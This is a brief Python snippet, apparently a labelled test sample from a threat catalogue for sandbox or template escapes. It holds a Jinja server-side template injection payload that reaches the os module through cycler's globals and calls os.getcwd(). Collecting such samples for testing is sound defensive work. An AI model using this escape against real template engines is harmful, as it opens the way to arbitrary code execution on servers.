# ruff: noqa - a hostile script, kept as written
# threat: 4 evaluate code or attribute paths outside the checks
# technique: app.jinja_env.from_string('{{ cycler.__init__.__globals__.os... }}').render()
# naive exec: escapes: Jinja's default globals reach os through cycler
template = app.jinja_env.from_string("ESCAPED {{ cycler.__init__.__globals__.os.getcwd() }}")
result = template.render()
